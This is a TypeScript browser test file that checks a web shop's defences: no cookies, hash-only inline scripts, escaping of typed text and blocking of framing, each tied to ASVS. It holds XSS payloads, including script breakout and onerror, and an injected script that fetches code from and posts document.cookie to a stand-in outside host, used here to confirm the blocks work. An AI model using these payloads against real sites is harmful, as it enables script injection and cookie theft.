import type { Page } from 'playwright-core'
import { describe, expect } from 'vitest'
import { saveReview } from '../../src/server/shop/reviews/save-review.ts'
import { newProduct } from '../factories.ts'
import { browserTest } from '../fixtures/browser.ts'
import { anyPicture, visit } from './browser.ts'
import { createTestUser } from './test-user.ts'

const test = browserTest()
  /** One address of each kind of page, for visitors and signed-in users. */
  .extend('pagesOf', { scope: 'file' }, ({ shop }) => async (): Promise<string[]> => {
    const { id } = await shop.context.db.reader
      .selectFrom('products')
      .select('id')
      .limit(1)
      .executeTakeFirstOrThrow()
    return [
      '/',
      '/shop',
      '/shop?category=Rings&page=2',
      `/shop/${id}`,
      '/shop/category/Rings',
      '/gender/female',
      '/gifts',
      '/collection',
      '/search?query=ring',
      '/help',
      '/legal-policy',
      '/contact-us',
      '/login',
      '/register',
      '/dashboard',
      '/dashboard/profile',
      '/dashboard/orders',
      '/dashboard/users',
      '/orders',
      '/payment-success',
      '/unauthorized',
      '/nothing-here',
    ]
  })

test('SESS-03 every visitor gets identical pages without cookies (ASVS 14.2.2)', async ({
  shop,
  pagesOf,
}) => {
  const [{ token: shopper, user }, { token: admin }] = [
    await createTestUser(shop),
    await createTestUser(shop, { role: 'admin' }),
  ]
  for (const path of await pagesOf()) {
    const read = async (headers: Record<string, string>) => {
      const response = await fetch(shop.address + path, { headers, redirect: 'manual' })
      expect(response.headers.get('set-cookie')).toBeNull()
      // A page that is not cached, such as that of an unknown address, contains the time of its rendering.
      return `${response.status} ${(await response.text()).replaceAll(/\b1\d{12}\b/g, 'an instant')}`
    }
    const asSomebody = await read({ cookie: `session=${shopper}` })
    expect(asSomebody.includes(user.email) || asSomebody.includes(user.username)).toBe(false)
    expect([path, await read({})]).toEqual([path, asSomebody])
    expect([
      path,
      await read({
        cookie: `session=${admin}`,
        authorization: `Bearer ${admin}`,
        'user-agent': 'other',
        'accept-language': 'hi',
      }),
    ]).toEqual([path, asSomebody])
  }
})

test('every page allows only its own inline scripts by hash (ASVS 3.4.3)', async ({ shop, pagesOf }) => {
  for (const path of await pagesOf()) {
    const response = await fetch(shop.address + path)
    const scripts = /script-src ([^;]*)/.exec(response.headers.get('content-security-policy') ?? '')?.[1]
    expect([path, scripts]).toEqual([path, expect.stringMatching(/^'self'( 'sha256-[\w+/=]+')*$/)])
  }
})

test('every page shows typed text as text and never runs it (ASVS 1.1.2, 1.2.1, 1.2.3, 1.3.1, 1.3.5, 3.2.2)', async ({
  shop,
}) => {
  const typed = `</script><script>window.smuggled = 1</script>"'><img src=x onerror="window.smuggled = 1">{{7*7}}<!--`
  const id = await newProduct(shop, {
    name: `Tara ${typed}`,
    description: typed,
    image: await anyPicture(shop),
    isTrending: true,
  })
  await shop.context.db.transaction((tx) =>
    saveReview(tx, {
      productId: id,
      userId: null,
      authorName: typed.slice(0, 60),
      rating: 5,
      comment: typed,
      verifiedBuyer: false,
    }),
  )
  const page = await shop.openPage({ expectedErrors: [/status of 404/] })
  for (const path of [
    `/shop/${id}`,
    '/shop',
    '/',
    `/search?query=${encodeURIComponent(`Tara ${typed}`)}`,
    `/shop?category=${encodeURIComponent(typed)}`,
    `/${encodeURIComponent(typed)}`,
  ]) {
    await visit(page, path)
    expect([path, await page.evaluate(() => 'smuggled' in window)]).toEqual([path, false])
  }
  await visit(page, `/shop/${id}`)
  await expect
    .poll(() => page.getByRole('heading', { level: 1 }).textContent())
    .toContain('</script><script>')
})

describe('the content policy in a real browser', () => {
  const forbidden = { expectedErrors: [/content policy|Content Security Policy/i, /status of 404/] }
  /** The errors that the page wrote to the console while `act` ran. */
  async function errorsWhile(page: Page, act: () => Promise<unknown>): Promise<string[]> {
    const errors: string[] = []
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
    await act()
    await expect
      .poll(() => errors.some((error) => error.startsWith('The content policy forbids this')))
      .toBe(true)
    return errors
  }

  test('runs no script that somebody put into a page, and says so (ASVS 1.3.2, 1.3.7, 3.4.3)', async ({
    shop,
  }) => {
    const page = await shop.openPage({ path: '/help', ...forbidden })
    const errors = await errorsWhile(page, () =>
      page.evaluate(() => {
        const script = document.createElement('script')
        script.textContent = 'window.smuggled = true'
        document.body.append(script)
        const picture = document.createElement('img')
        picture.setAttribute('onerror', 'window.smuggled = true')
        picture.src = '/media/x/y.jpg'
        document.body.append(picture)
      }),
    )
    expect(errors.join()).toContain('script-src')
    await expect.poll(() => page.evaluate(() => 'smuggled' in window)).toBe(false)
  })

  test('fetches no script from elsewhere and sends nothing there (ASVS 14.2.3)', async ({ shop }) => {
    const page = await shop.openPage({ path: '/help', ...forbidden })
    const errors = await errorsWhile(page, () =>
      page.evaluate(async () => {
        const script = document.createElement('script')
        script.src = 'https://elsewhere.example/x.js'
        document.body.append(script)
        await fetch('https://elsewhere.example/', { method: 'POST', body: document.cookie }).catch(
          () => undefined,
        )
      }),
    )
    expect(errors.join()).toMatch(/connect-src/)
  })

  test('is not shown in a frame of another page (ASVS 3.4.6)', async ({ shop }) => {
    const page = await shop.openPage({ expectedErrors: [/frame/i, /ERR_BLOCKED/] })
    const other = (src: string) => ({
      contentType: 'text/html',
      body: `<iframe src="${shop.address}${src}"></iframe>`,
    })
    await page.route('http://elsewhere.example/*', (route) =>
      route.fulfill(other(new URL(route.request().url()).pathname)),
    )
    // Forwarded unchanged, so that only their headers can keep them out of the frame.
    await page.route(`${shop.address}/help`, async (route) =>
      route.fulfill({ response: await route.fetch() }),
    )
    await page.route(`${shop.address}/plain`, (route) =>
      route.fulfill({ contentType: 'text/html', body: 'no policy' }),
    )
    const framed = async (path: string) => {
      await page.goto(`http://elsewhere.example${path}`)
      return () => page.frames()[1]?.url()
    }
    await expect.poll(await framed('/plain')).toBe(`${shop.address}/plain`)
    await expect.poll(await framed('/help')).toBe('chrome-error://chromewebdata/')
  })
})
